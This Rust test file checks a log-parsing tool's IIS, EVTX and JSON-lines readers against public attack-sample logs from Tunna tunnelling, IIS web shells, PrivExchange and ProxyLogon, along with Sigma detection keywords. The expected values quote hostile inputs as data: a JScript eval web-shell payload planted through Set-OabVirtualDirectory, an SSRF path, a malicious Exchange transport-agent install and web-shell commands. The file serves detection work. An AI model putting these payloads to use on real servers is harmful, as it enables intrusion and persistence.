//! The W3C, EVTX and JSON-lines readers on real public data (see the
//! PROVENANCE.md beside each file under `tests/data/`). The expected values
//! were read off the files with other tools first (python-evtx, jq, awk).

use exhunt_core::{EventRecord, Record};
use exhunt_sources::{
    is_events_jsonl, is_evtx, is_w3c, read_evtx_bytes, read_evtx_file, read_evtx_stream,
    EventsJsonlReader, ReadSummary, SourceError, W3cReader,
};
use std::path::{Path, PathBuf};

fn data(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(rel)
}

fn evtx(rel: &str) -> (Vec<EventRecord>, ReadSummary) {
    let mut got = Vec::new();
    let out = read_evtx_file(&data(rel), &mut |r| got.push(r.clone())).unwrap();
    assert!(out.errors.is_empty(), "{rel}: {:?}", out.errors);
    assert_eq!(out.records as usize, got.len());
    (got, out)
}

fn f<'a>(r: &'a EventRecord, name: &str) -> &'a str {
    r.field(name)
        .unwrap_or_else(|| panic!("no field {name} in {:?}", r.fields))
}

/// What a Sigma keyword search does: does any field value hold `needle`
/// (without case)?
fn any_value_contains(r: &EventRecord, needle: &str) -> bool {
    let needle = needle.to_lowercase();
    let mut hit = false;
    r.for_each_field(&mut |_, v| hit |= v.to_lowercase().contains(&needle));
    hit
}

#[test]
fn tunna_iis_log() {
    let path = data("evtx-attack-samples/Tunna_rdp_tunnel_IIS.log");
    let bytes = std::fs::read(&path).unwrap();
    assert!(is_w3c(&bytes[..4096]));
    assert!(!is_evtx(&bytes) && !is_events_jsonl(&bytes[..4096]));
    let mut got = Vec::new();
    let out = W3cReader::new()
        .scan(&mut &bytes[..], &mut |r| got.push(r.clone()))
        .unwrap();
    // Two `#Fields:` blocks (IIS restarted at 11:04:05), a comment line and
    // a blank line added by the sample's author: 10 lines that are not data.
    assert_eq!(out.records, 4298);
    assert_eq!(out.lines, 4308);
    assert_eq!(out.bytes, bytes.len() as u64);
    assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    assert_eq!(
        out.software.as_deref(),
        Some("Microsoft Internet Information Services 10.0")
    );
    assert_eq!(out.fields.len(), 15);
    assert_eq!(out.first_time.as_deref(), Some("2019-09-03T10:13:36Z"));
    assert_eq!(out.last_time.as_deref(), Some("2019-09-03T11:08:51Z"));

    // Tunna's tunnel set-up requests, one in each block and one more.
    let setup: Vec<&EventRecord> = got
        .iter()
        .filter(|r| f(r, "cs-uri-query").contains("proxy&port="))
        .collect();
    assert_eq!(
        setup.iter().map(|r| r.line).collect::<Vec<_>>(),
        vec![7, 2606, 2629]
    );
    let r = setup[0];
    assert_eq!(r.time(), Some("2019-09-03T10:13:36Z"));
    assert_eq!(f(r, "date"), "2019-09-03");
    assert_eq!(f(r, "s-ip"), "10.0.2.15");
    assert_eq!(f(r, "cs-method"), "GET");
    assert_eq!(f(r, "cs-uri-stem"), "/erp/conn.aspx");
    assert_eq!(f(r, "cs-uri-query"), "proxy&port=3389&ip=127.0.0.1");
    assert_eq!(f(r, "c-uri"), "/erp/conn.aspx?proxy&port=3389&ip=127.0.0.1");
    assert_eq!(f(r, "c-uri-extension"), "aspx");
    assert_eq!(f(r, "s-port"), "80");
    assert_eq!(f(r, "cs-username"), "");
    assert_eq!(f(r, "c-ip"), "10.0.2.17");
    assert_eq!(f(r, "src_ip"), "10.0.2.17");
    assert_eq!(f(r, "cs(User-Agent)"), "");
    assert_eq!(f(r, "c-useragent"), "");
    assert_eq!(f(r, "sc-status"), "200");
    assert_eq!(f(r, "time-taken"), "7");
    assert_eq!(
        r.raw,
        "2019-09-03 10:13:36 10.0.2.15 GET /erp/conn.aspx proxy&port=3389&ip=127.0.0.1 80 - 10.0.2.17 - - 200 0 0 7"
    );
    assert_eq!(r.logsource.category.as_deref(), Some("webserver"));
    assert_eq!(r.logsource.service.as_deref(), Some("iis"));

    let posts = got.iter().filter(|r| f(r, "cs-method") == "POST").count();
    assert_eq!(posts, 1737);
    assert!(got.iter().all(|r| f(r, "cs-uri-stem") == "/erp/conn.aspx"));
}

#[test]
fn iis_webshell_sysmon_evtx() {
    let rel = "evtx-attack-samples/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx";
    let (got, out) = evtx(rel);
    assert_eq!(got.len(), 4);
    assert_eq!(out.first_time.as_deref(), Some("2019-05-24T01:33:53.112Z"));
    assert_eq!(out.last_time.as_deref(), Some("2019-05-24T01:33:53.192Z"));
    let ids: Vec<&str> = got.iter().map(|r| f(r, "EventID")).collect();
    assert_eq!(ids, ["1", "10", "1", "1"]);

    // The web shell: w3wp.exe starts cmd.exe.
    let r = &got[0];
    assert_eq!(r.line, 1044);
    assert_eq!(f(r, "EventRecordID"), "1044");
    assert_eq!(f(r, "Channel"), "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(f(r, "Provider_Name"), "Microsoft-Windows-Sysmon");
    assert_eq!(f(r, "Computer"), "IEWIN7");
    assert_eq!(f(r, "Level"), "4");
    assert_eq!(f(r, "Task"), "1");
    assert_eq!(f(r, "TimeCreated"), "2019-05-24T01:33:53.1124866Z");
    assert_eq!(r.time(), Some("2019-05-24T01:33:53.112Z"));
    assert!(f(r, "ParentImage").ends_with("\\w3wp.exe"));
    assert_eq!(f(r, "Image"), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(
        f(r, "CommandLine"),
        "\"c:\\windows\\system32\\cmd.exe\" /c net user"
    );
    assert_eq!(f(r, "User"), "IIS APPPOOL\\DefaultAppPool");
    assert_eq!(f(r, "ProcessId"), "2404");
    assert!(f(r, "ParentCommandLine").contains("-ap \"DefaultAppPool\""));
    assert_eq!(r.logsource.category.as_deref(), Some("process_creation"));
    assert_eq!(r.logsource.service.as_deref(), Some("sysmon"));
    assert_eq!(r.logsource.product.as_deref(), Some("windows"));
    // `raw` is the event as compact JSON.
    let raw: serde_json::Value = serde_json::from_str(&r.raw).unwrap();
    assert_eq!(raw["Event"]["System"]["EventRecordID"], 1044);

    // w3wp.exe opens the shell's process (Sysmon 10).
    let r = &got[1];
    assert_eq!(r.logsource.category.as_deref(), Some("process_access"));
    assert!(f(r, "SourceImage").ends_with("\\w3wp.exe"));
    assert_eq!(f(r, "TargetImage"), "c:\\windows\\system32\\cmd.exe");
    assert_eq!(f(r, "GrantedAccess"), "0x1fffff");

    // The shell's children.
    assert_eq!(f(&got[2], "Image"), "C:\\Windows\\System32\\net.exe");
    assert_eq!(f(&got[2], "ParentImage"), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(f(&got[3], "Image"), "C:\\Windows\\System32\\net1.exe");
}

#[test]
fn other_webshell_and_exchange_evtx_files() {
    // Metasploit web shell: w3wp.exe starts notepad.exe and injects into it.
    let (got, _) = evtx(
        "evtx-attack-samples/privesc_rotten_potato_from_webshell_metasploit_sysmon_1_8_3.evtx",
    );
    assert_eq!(got.len(), 13);
    assert!(got.iter().any(|r| f(r, "EventID") == "1"
        && f(r, "ParentImage").to_lowercase().ends_with("\\w3wp.exe")
        && f(r, "Image").to_lowercase().ends_with("\\notepad.exe")));
    let thread = got.iter().find(|r| f(r, "EventID") == "8").unwrap();
    assert!(thread.logsource.category.as_deref() == Some("create_remote_thread"));
    assert!(f(thread, "SourceImage")
        .to_lowercase()
        .ends_with("\\w3wp.exe"));

    // Tunna: w3wp.exe connects to the local RDP port.
    let (got, _) = evtx("evtx-attack-samples/tunna_iis_rdp_smb_tunneling_sysmon_3.evtx");
    assert_eq!(got.len(), 12);
    assert!(got
        .iter()
        .all(|r| r.logsource.category.as_deref() == Some("network_connection")));
    let from_w3wp = |port: &str| {
        got.iter()
            .filter(|r| {
                f(r, "Image").ends_with("\\w3wp.exe")
                    && f(r, "DestinationIp") == "127.0.0.1"
                    && f(r, "DestinationPort") == port
                    && f(r, "Initiated") == "true"
            })
            .count()
    };
    assert_eq!(from_w3wp("3389"), 2);
    assert_eq!(from_w3wp("445"), 2);

    // PrivExchange: Security events on a domain controller.
    let (got, _) = evtx("evtx-attack-samples/privexchange_dirkjan.evtx");
    assert_eq!(got.len(), 8);
    assert!(got
        .iter()
        .all(|r| r.logsource.service.as_deref() == Some("security")));
    assert!(got
        .iter()
        .any(|r| f(r, "EventID") == "5136" && f(r, "SubjectUserName") == "EXCHANGE$"));

    let (got, _) = evtx("evtx-to-mitre-attack/ID11-Exchange transport config modified.evtx");
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].logsource.category.as_deref(), Some("file_event"));
    assert!(f(&got[0], "TargetFilename").ends_with("\\TransportRoles\\Shared\\agents.config"));

    let (got, _) = evtx("evtx-to-mitre-attack/ID4756-Exchange admin group change.evtx");
    assert_eq!(got.len(), 15);
    assert!(got.iter().all(|r| f(r, "EventID") == "4756"));
    assert!(got
        .iter()
        .any(|r| f(r, "TargetUserName") == "Organization Management"));
}

#[test]
fn msexchange_management_evtx() {
    let (got, _) =
        evtx("evtx-to-mitre-attack/ID6-Failed to install an Exchange transport agent.evtx");
    assert_eq!(got.len(), 4);
    let r = &got[0];
    // EventID carries a Qualifiers attribute in this classic event source.
    assert_eq!(f(r, "EventID"), "6");
    assert_eq!(f(r, "EventID_Qualifiers"), "49152");
    assert_eq!(f(r, "Channel"), "MSExchange Management");
    assert_eq!(f(r, "Provider_Name"), "MSExchange CmdletLogs");
    assert_eq!(f(r, "Computer"), "exchange01.offsec.lan");
    assert_eq!(r.time(), Some("2021-06-04T08:41:47.982Z"));
    assert_eq!(
        r.logsource.service.as_deref(),
        Some("msexchange-management")
    );
    assert_eq!(r.logsource.category, None);
    // Unnamed <Data> items: cmdlet, parameters, user, SIDs, ...
    assert_eq!(f(r, "Data1"), "Install-TransportAgent");
    assert_eq!(
        f(r, "Data2"),
        "-Name \"Evil\" -AssemblyPath \".\\NetshHelperBeacon.dll\" -TransportAgentFactory \"hack\""
    );
    assert_eq!(
        f(r, "Data3"),
        "offsec.lan/OFFSEC-COMPANY/Administrators/admmig"
    );
    assert_eq!(f(r, "Data7"), "8372 w3wp#MSExchangePowerShellAppPool");
    assert_eq!(f(r, "Data27"), "en-US");
    assert!(r.field("Data28").is_none());
    // Sigma c7d16cae (failed transport agent install): EventID 6 and
    // Data|contains 'Install-TransportAgent'.
    assert!(f(r, "Data").contains("Install-TransportAgent"));
    assert!(f(r, "Data").starts_with("Install-TransportAgent -Name \"Evil\""));
    assert_eq!(f(&got[2], "Data1"), "Enable-TransportAgent");
    assert_eq!(f(&got[2], "Data2"), "-Identity \"hack\"");
}

#[test]
fn zip_member_path_reads_the_same() {
    let rel = "evtx-attack-samples/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx";
    let (from_file, out_file) = evtx(rel);
    let bytes = std::fs::read(data(rel)).unwrap();
    assert!(is_evtx(&bytes));
    let mut from_stream = Vec::new();
    let out_stream =
        read_evtx_stream(&mut &bytes[..], &mut |r| from_stream.push(r.clone())).unwrap();
    assert_eq!(from_file, from_stream);
    assert_eq!(out_file, out_stream);
}

#[test]
fn damaged_evtx_files() {
    let rel = "evtx-attack-samples/tunna_iis_rdp_smb_tunneling_sysmon_3.evtx";
    let bytes = std::fs::read(data(rel)).unwrap();

    // Cut inside the file header: refused as a whole, with a reason.
    let r = read_evtx_bytes(bytes[..2000].to_vec(), &mut |_| {});
    assert!(matches!(r, Err(SourceError::Evtx(_))), "{r:?}");

    // Cut inside the first chunk: no panic; the events before the cut are
    // read, and the cut is reported.
    let mut counts = Vec::new();
    for cut in [4096 + 100, 4096 + 600, 4096 + 5000, 4096 + 20000] {
        let mut n = 0u64;
        let out = read_evtx_bytes(bytes[..cut].to_vec(), &mut |_| n += 1).unwrap();
        assert_eq!(out.records, n);
        assert!(n <= 12);
        assert!(
            out.warnings.iter().any(|w| w.contains("cut short")),
            "{:?}",
            out.warnings
        );
        counts.push(n);
    }
    assert!(
        counts[0] < 12 && counts.windows(2).all(|w| w[0] <= w[1]),
        "{counts:?}"
    );

    // One record's content overwritten: the others still come out and the
    // broken one is named.
    let starts: Vec<usize> = bytes
        .windows(4)
        .enumerate()
        .filter(|(i, w)| *i >= 4096 + 512 && *w == b"\x2a\x2a\x00\x00")
        .map(|(i, _)| i)
        .collect();
    assert!(starts.len() >= 12, "{starts:?}");
    let mut broken = bytes.clone();
    let body = starts[5] + 24;
    for b in &mut broken[body..body + 64] {
        *b = 0xFF;
    }
    let mut got = Vec::new();
    let out = read_evtx_bytes(broken, &mut |r| got.push(r.line)).unwrap();
    assert_eq!(out.failed, 1, "{out:?}");
    assert_eq!(out.errors.len(), 1);
    assert_eq!(got.len(), 11);
    assert!(!got.is_empty());
}

#[test]
fn otrf_proxylogon_jsonl() {
    let path = data("otrf-security-datasets/proxylogon_exchange_relevant_subset.jsonl");
    let bytes = std::fs::read(&path).unwrap();
    assert!(is_events_jsonl(&bytes[..4096]));
    assert!(!is_w3c(&bytes[..4096]));
    let mut got = Vec::new();
    let out = EventsJsonlReader::new()
        .scan(&mut &bytes[..], &mut |r| got.push(r.clone()))
        .unwrap();
    assert_eq!(out.records, 61);
    assert_eq!(out.lines, 61);
    assert_eq!(out.failed, 0);
    assert!(out.warnings.is_empty(), "{:?}", out.warnings);
    assert_eq!(out.first_time.as_deref(), Some("2021-03-14T01:39:39.830Z"));
    assert_eq!(out.last_time.as_deref(), Some("2021-03-14T01:40:54.881Z"));
    for r in &got {
        assert_eq!(f(r, "Computer"), "MXS01.azsentinel.local");
        assert!(r.field("Provider_Name").is_some());
        assert_eq!(r.logsource.product.as_deref(), Some("windows"));
    }

    // Sysmon 1: the OWA app pool's w3wp.exe runs `cmd /c whoami`.
    let shell: Vec<&EventRecord> = got
        .iter()
        .filter(|r| {
            r.logsource.service.as_deref() == Some("sysmon")
                && f(r, "EventID") == "1"
                && f(r, "ParentImage").ends_with("\\w3wp.exe")
                && f(r, "CommandLine").contains("whoami")
        })
        .collect();
    assert_eq!(shell.len(), 2);
    let r = shell[0];
    assert_eq!(r.line, 10);
    assert_eq!(f(r, "Image"), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(f(r, "CommandLine"), "cmd /c whoami");
    assert!(f(r, "ParentCommandLine").contains("MSExchangeOWAAppPool"));
    assert_eq!(f(r, "Provider_Name"), "Microsoft-Windows-Sysmon");
    assert_eq!(r.logsource.category.as_deref(), Some("process_creation"));
    assert_eq!(r.time(), Some("2021-03-14T01:40:15.342Z"));

    // Security 4688 of the same process, under Sigma's names too.
    let r = got
        .iter()
        .find(|r| f(r, "EventID") == "4688" && f(r, "CommandLine") == "cmd /c whoami")
        .unwrap();
    assert_eq!(r.logsource.category.as_deref(), Some("process_creation"));
    assert_eq!(r.logsource.service.as_deref(), Some("security"));
    assert_eq!(f(r, "Image"), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(f(r, "NewProcessName"), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(
        f(r, "ParentImage"),
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    );

    // Sysmon 11: the web shell written into OWA's auth folder.
    let r = got
        .iter()
        .find(|r| f(r, "EventID") == "11" && f(r, "TargetFilename").ends_with(".aspx"))
        .unwrap();
    assert_eq!(r.line, 6);
    assert_eq!(r.logsource.category.as_deref(), Some("file_event"));
    assert_eq!(
        f(r, "TargetFilename"),
        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\ohyeah.aspx"
    );
    assert_eq!(f(r, "Image"), "System");

    // MSExchange Management: the cmdlet is only in the rendered Message.
    let mgmt: Vec<&EventRecord> = got
        .iter()
        .filter(|r| r.logsource.service.as_deref() == Some("msexchange-management"))
        .collect();
    assert_eq!(mgmt.len(), 3);
    let r = mgmt[0];
    assert_eq!(r.line, 59);
    assert_eq!(f(r, "EventID"), "1");
    assert_eq!(f(r, "Provider_Name"), "MSExchange CmdletLogs");
    assert_eq!(r.time(), Some("2021-03-14T01:40:12.987Z"));
    assert!(f(r, "Message")
        .starts_with("Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl"));
    assert_eq!(f(r, "Data1"), "Set-OabVirtualDirectory");
    assert_eq!(
        f(r, "Data2"),
        "-ExternalUrl \"http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"code\"],\"unsafe\");}</script>\" -Identity \"OAB (Default Web Site)\""
    );
    // Sigma 9db37458: all of these keywords somewhere in the event.
    for k in [
        "Set-OabVirtualDirectory",
        "ExternalUrl",
        "Page_Load",
        "script",
    ] {
        assert!(any_value_contains(r, k), "{k}");
    }
    // Sigma 550d3350: 'OabVirtualDirectory' and ' -ExternalUrl ' and one of
    // the script fragments.
    assert!(any_value_contains(r, "OabVirtualDirectory"));
    assert!(any_value_contains(r, " -ExternalUrl "));
    assert!(any_value_contains(r, "eval(request"));
    assert_eq!(f(mgmt[1], "Data1"), "Remove-OabVirtualDirectory");
    assert_eq!(f(mgmt[2], "Data1"), "New-OabVirtualDirectory");

    // The SSRF's trace in the control panel's error event.
    let r = got
        .iter()
        .find(|r| f(r, "EventID") == "4" && f(r, "Provider_Name") == "MSExchange Control Panel")
        .unwrap();
    assert_eq!(r.logsource.service.as_deref(), Some("application"));
    assert!(f(r, "Message").contains("/ecp/about.aspx?a=]:444/ecp/tpy.js"));
}

/// A small deterministic generator (xorshift), for damaging files the same
/// way on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn randomly_damaged_files_never_panic() {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let inputs = [
        "evtx-attack-samples/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx",
        "evtx-to-mitre-attack/ID6-Failed to install an Exchange transport agent.evtx",
        "evtx-attack-samples/Tunna_rdp_tunnel_IIS.log",
        "otrf-security-datasets/proxylogon_exchange_relevant_subset.jsonl",
    ];
    for rel in inputs {
        let clean = std::fs::read(data(rel)).unwrap();
        // EVTX damage goes into the chunk (past the 4 KiB file header),
        // where the records are; text damage anywhere after the first 8 KiB
        // (a NUL earlier makes the file binary, which is tested elsewhere).
        let from = if rel.ends_with(".evtx") { 4096 } else { 8192 };
        for round in 0..48 {
            let mut bytes = clean.clone();
            let span = (bytes.len() - from) as u64;
            for _ in 0..(1 + round % 16) {
                let at = from + (rng.next() % span) as usize;
                bytes[at] = rng.next() as u8;
            }
            if round % 5 == 0 {
                let cut = from + (rng.next() % span) as usize;
                bytes.truncate(cut);
            }
            let mut n = 0u64;
            if rel.ends_with(".evtx") {
                if let Ok(out) = read_evtx_bytes(bytes, &mut |_| n += 1) {
                    assert_eq!(out.records, n);
                }
            } else if rel.ends_with(".log") {
                let out = W3cReader::new().scan(&mut &bytes[..], &mut |_| n += 1);
                assert!(out.is_ok_and(|o| o.records == n));
            } else {
                let out = EventsJsonlReader::new().scan(&mut &bytes[..], &mut |_| n += 1);
                assert!(out.is_ok_and(|o| o.records + o.failed <= o.lines && o.records == n));
            }
        }
    }
}
